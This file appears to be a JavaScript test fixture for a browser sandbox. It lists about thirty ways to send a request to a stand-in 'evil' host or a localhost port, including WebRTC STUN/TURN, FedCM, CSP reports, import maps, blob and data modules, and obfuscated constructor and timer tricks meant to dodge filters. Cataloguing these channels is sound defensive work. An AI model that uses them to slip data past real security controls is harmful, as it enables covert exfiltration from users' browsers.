// Ways to send that nobody thinks of first.
export default {
  "Cache.add": async ({ evil }) => (await caches.open("x")).add(new Request(evil, { mode: "no-cors" })),
  "Cache.addAll": async ({ evil }) => (await caches.open("x")).addAll([evil]),
  fetchLater: ({ evil }) => void fetchLater(evil, { activateAfter: 0 }),
  WebSocketStream: ({ socket }) => void new WebSocketStream(socket).opened.catch(() => {}),
  WebTransport: {
    hit: "datagram",
    source: async ({ evil, sleep }) => {
      new WebTransport(evil.replace("http:", "https:")).ready.catch(() => {});
      await sleep(800);
    },
  },
  "WebRTC by STUN": {
    hit: "datagram",
    source: async ({ port, sleep }) => {
      const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      c.createDataChannel("x");
      await c.setLocalDescription(await c.createOffer());
      await sleep(800);
    },
  },
  "WebRTC by its old name": {
    hit: "datagram",
    source: async ({ port, sleep }) => {
      const c = new webkitRTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      c.createDataChannel("x");
      await c.setLocalDescription(await c.createOffer());
      await sleep(800);
    },
  },
  "WebRTC by its prototype": {
    hit: "datagram",
    source: async ({ port, sleep }) => {
      const c = new RTCPeerConnection.prototype.constructor({ iceServers: [] });
      c.setConfiguration({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      c.createDataChannel("x");
      await c.setLocalDescription(await c.createOffer());
      await sleep(800);
    },
  },
  "WebRTC by TURN": async ({ port, sleep }) => {
    const iceServers = [{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: "x", credential: "x" }];
    const c = new RTCPeerConnection({ iceServers });
    c.createDataChannel("x");
    await c.setLocalDescription(await c.createOffer());
    await sleep(800);
  },
  PaymentRequest: ({ evil }) => {
    const methods = [{ supportedMethods: `${evil.replace("http:", "https:")}/pay` }];
    return new PaymentRequest(methods, {
      total: { label: "x", amount: { currency: "EUR", value: "1" } },
    }).canMakePayment();
  },
  FedCM: ({ evil }) =>
    navigator.credentials.get({ identity: { providers: [{ configURL: `${evil}/fedcm.json`, clientId: "x" }] } }),
  "FedCM's disconnect": ({ evil }) =>
    IdentityCredential.disconnect({ configURL: `${evil}/fedcm.json`, clientId: "x", accountHint: "x" }),
  "a report of a policy": ({ evil }) => {
    document.head.append(
      Object.assign(document.createElement("meta"), {
        httpEquiv: "Content-Security-Policy",
        content: `img-src 'none'; report-uri ${evil}`,
      }),
    );
    new Image().src = "data:,x";
    void new Image();
    void fetch(evil, { mode: "no-cors" });
  },
  "an import map": async ({ evil }) => {
    document.head.append(
      Object.assign(document.createElement("script"), {
        type: "importmap",
        textContent: JSON.stringify({ imports: { x: `${evil}/x.js` } }),
      }),
    );
    return import("x");
  },
  import: ({ evil }) => import(`${evil}/x.js`),
  "import of JSON": ({ evil }) => import(`${evil}/x.json`, { with: { type: "json" } }),
  "import of CSS": ({ evil }) => import(`${evil}/x.css`, { with: { type: "css" } }),
  "import in a function": ({ evil }) => Function("url", "return import(url)")(`${evil}/x.js`),
  "import in a timer": ({ evil }) => void setTimeout(`import("${evil}/x.js")`),
  "WebAssembly by stream": ({ evil }) => WebAssembly.compileStreaming(fetch(evil)),
  FontFace: ({ evil }) => new FontFace("f", `url(${evil}/f)`).load(),
  Image: ({ evil }) => void (new Image().src = evil),
  "Image's decode": ({ evil }) => Object.assign(new Image(), { src: evil }).decode(),
  Audio: ({ evil }) => void new Audio(evil).load(),
  "fetch in a timer's string": ({ evil }) => void setTimeout(`fetch("${evil}", { mode: "no-cors" })`),
  "fetch of an async function": ({ evil }) =>
    Object.getPrototypeOf(async () => {}).constructor("u", "return fetch(u, { mode: 'no-cors' })")(evil),
  "fetch with a stream": ({ evil }) =>
    fetch(evil, { method: "POST", mode: "no-cors", body: new Blob(["x"]), keepalive: true }),
  "import of a data: module": ({ evil }) => import(`data:text/javascript,import "${evil}/x.js"`),
  "import of a blob: module": ({ blob, evil }) => import(blob(`import "${evil}/x.js"`, "text/javascript")),
  "a module of a blob: that sends": ({ blob, sends }) => import(blob(sends, "text/javascript")),
};
